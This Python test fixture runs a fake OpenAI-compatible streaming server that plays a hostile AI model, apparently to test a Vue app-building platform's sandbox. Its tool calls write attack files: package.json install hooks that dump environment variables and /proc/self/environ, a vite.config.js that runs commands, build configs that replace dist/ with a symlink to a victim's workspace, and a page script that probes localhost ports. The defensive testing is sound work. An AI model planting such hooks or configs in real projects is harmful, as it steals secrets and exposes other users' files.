"""A hostile OpenAI-compatible model: a real HTTP server speaking the streaming wire format.

Not the offline model: its answers are an attacker's. Every Vue turn it writes a
package.json with install and build scripts, a vite.config.js that runs commands and writes
files, a lockfile of its own, and sources that import the server's environment, the
platform's database and files above the project. Each attack names marker files under
``markers`` that exist only if a command of the model's ran.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

GOOD_APP = """<template><main><h1>Hostile but harmless</h1><pre>{{ env }}</pre></main></template>
<script setup>
// What a build leaks through Vite: import.meta.env (VITE_* of the build's environment).
const env = JSON.stringify(import.meta.env)
</script>
"""
MAIN = (
    "import { createApp } from 'vue'\nimport App from './App.vue'\ncreateApp(App).mount('#app')\n"
)
INDEX = (
    '<!DOCTYPE html><html><head><meta charset="UTF-8"><title>x</title></head><body>'
    '<div id="app"></div><script type="module" src="/src/main.js"></script></body></html>\n'
)


def attack_files(markers: Path, leak: str | None) -> dict[str, str]:
    touch = f"touch {markers}/ran"
    package = {
        "name": "evil",
        "type": "module",
        "scripts": {
            "preinstall": f"{touch}-preinstall; env > {markers}/env",
            "postinstall": f"{touch}-postinstall; cat /proc/self/environ",
            "prebuild": f"{touch}-prebuild",
            "build": f"{touch}-build; vite build",
        },
        "dependencies": {"vue": "3.5.45", "evil-pkg": "1.0.0"},
    }
    vite_config = (
        "import { execSync } from 'node:child_process'\nimport fs from 'node:fs'\n"
        f"execSync('{touch}-vite-config')\n"
        f"fs.writeFileSync('{markers}/written-by-vite-config', process.env.toString())\n"
        "export default { base: './' }\n"
    )
    app = GOOD_APP
    if leak is not None:
        app = GOOD_APP.replace(
            "<script setup>", f"<script setup>\nimport leak from '{leak}'\nconsole.log(leak)", 1
        )
    return {
        "package.json": json.dumps(package, indent=2),
        "vite.config.js": vite_config,
        "package-lock.json": json.dumps(
            {
                "lockfileVersion": 3,
                "packages": {
                    "node_modules/evil-pkg": {
                        "version": "1.0.0",
                        "resolved": "http://127.0.0.1:9/evil.tgz",
                    }
                },
            }
        ),
        "index.html": INDEX,
        "src/main.js": MAIN,
        "src/App.vue": app,
    }


# What a config file of the app's would do, had it run in the build box: replace dist/ by a
# link to another user's workspace once Vite is done (the attack that once published a
# victim's files on the attacker's site), say so in the log, and leave a marker in the output.
CONFIG_ATTACK = """
const fs = require('fs'), path = require('path');
console.log('ZC-MARKER-CONFIG-RAN');
process.on('exit', () => {
  try { fs.mkdirSync('dist', {recursive: true}); fs.writeFileSync('dist/zc-marker.txt', 'ran') }
  catch (e) {}
  try { fs.rmSync('dist', {recursive: true, force: true}); fs.symlinkSync(VICTIM, 'dist') }
  catch (e) {}
});
module.exports = { plugins: [] };
"""
CONFIG_NAMES = (
    "postcss.config.js",
    "postcss.config.cjs",
    "postcss.config.mjs",
    ".postcssrc.js",
    "tailwind.config.js",
    "babel.config.js",
    "src/postcss.config.cjs",
)


def config_attack(victim: Path) -> dict[str, str]:
    """App-written build configuration: code under every name a tool may load, and data
    files that would change the output if read."""
    code = CONFIG_ATTACK.replace("VICTIM", json.dumps(str(victim)))
    files = {name: code for name in CONFIG_NAMES}
    files[".postcssrc.json"] = json.dumps({"plugins": {"./src/postcss.config.cjs": {}}})
    files[".env"] = "VITE_ZC_MARKER=ZC-MARKER-ENV-READ\n"
    files["tsconfig.json"] = json.dumps({"extends": "./zc-missing-base.json"})
    files[".browserslistrc"] = "not a valid query ZC-MARKER\n"
    return files


# What the page tries once loaded in the platform's headless browser (the runtime check and
# covers): connections to another port on its own host name and on 127.0.0.1, by every way a
# page has, routing-visible or not.
REACH = """<template><main><h1>Reaching out</h1></main></template>
<script setup>
const port = PORT
const targets = [location.protocol + '//' + location.hostname + ':' + port,
                 'http://127.0.0.1:' + port]
const add = (tag, attrs) => { const e = document.createElement(tag);
  Object.assign(e, attrs); document.head.appendChild(e); return e }
const rules = add('script', { type: 'speculationrules' })
rules.textContent = JSON.stringify({
  prefetch: [{ source: 'list', urls: targets.map(t => t + '/prefetch') }],
  prerender: [{ source: 'list', urls: targets.map(t => t + '/prerender') }] })
for (const t of targets) {
  for (const rel of ['prefetch', 'preconnect', 'prerender', 'dns-prefetch', 'preload'])
    add('link', { rel, href: t + '/' + rel, as: 'fetch' })
  try { fetch(t + '/fetch', { mode: 'no-cors' }).catch(() => {}) } catch (e) {}
  try { new WebSocket(t.replace('http', 'ws') + '/ws') } catch (e) {}
  try { new EventSource(t + '/sse') } catch (e) {}
  try { new WebTransport(t.replace('http', 'https') + '/wt') } catch (e) {}
  try { window.open(t + '/open') } catch (e) {}
  try { navigator.sendBeacon(t + '/beacon', 'x') } catch (e) {}
  const img = new Image(); img.src = t + '/img'
  const frame = add('iframe', {}); frame.srcdoc =
    '<meta http-equiv="refresh" content="0;url=' + t + '/refresh">'
  const form = document.createElement('form'); form.method = 'post';
  form.action = t + '/form'; form.target = 'zc-' + Math.random(); document.body.appendChild(form)
  try { form.submit() } catch (e) {}
}
try { navigator.serviceWorker.register('/sw.js').catch(() => {}) } catch (e) {}
</script>
"""


class HostileModel:
    def __init__(self, markers: Path) -> None:
        self.markers = markers
        self.requests: list[dict[str, Any]] = []
        self.leak: str | None = None  # the import the next turn's App.vue makes
        self.extra: dict[str, str] = {}  # more files the next Vue turn writes
        model = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["content-length"])))
                model.requests.append(body)
                self.send_response(200)
                self.send_header("content-type", "text/event-stream")
                self.end_headers()
                for chunk in model.answer(body):
                    self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
                self.wfile.write(b"data: [DONE]\n\n")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/v1"

    def __enter__(self) -> HostileModel:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    def answer(self, body: dict[str, Any]) -> list[dict[str, Any]]:
        messages = body["messages"]
        system = messages[0]["content"] if messages else ""
        last_user = max(i for i, m in enumerate(messages) if m["role"] == "user")
        acted = any(m["role"] == "tool" for m in messages[last_user:])
        if "zerocode:prompt=vue_project" not in system or acted:
            return _text("Done: I changed the files you asked for.")
        files = {**attack_files(self.markers, self.leak), **self.extra}
        return _calls([("write_file", {"path": p, "content": c}) for p, c in files.items()])


def _chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {
        "id": "chatcmpl-hostile",
        "object": "chat.completion.chunk",
        "created": 0,
        "model": "hostile",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }


def _text(text: str) -> list[dict[str, Any]]:
    return [_chunk({"role": "assistant", "content": text}), _chunk({}, "stop")]


def _calls(calls: list[tuple[str, dict[str, Any]]]) -> list[dict[str, Any]]:
    chunks = [_chunk({"role": "assistant", "content": None})]
    for i, (name, args) in enumerate(calls):
        text = json.dumps(args)
        half = len(text) // 2
        chunks.append(
            _chunk(
                {
                    "tool_calls": [
                        {
                            "index": i,
                            "id": f"call_h{i}",
                            "type": "function",
                            "function": {"name": name, "arguments": text[:half]},
                        }
                    ]
                }
            )
        )
        chunks.append(
            _chunk({"tool_calls": [{"index": i, "function": {"arguments": text[half:]}}]})
        )
    chunks.append(_chunk({}, "tool_calls"))
    return chunks
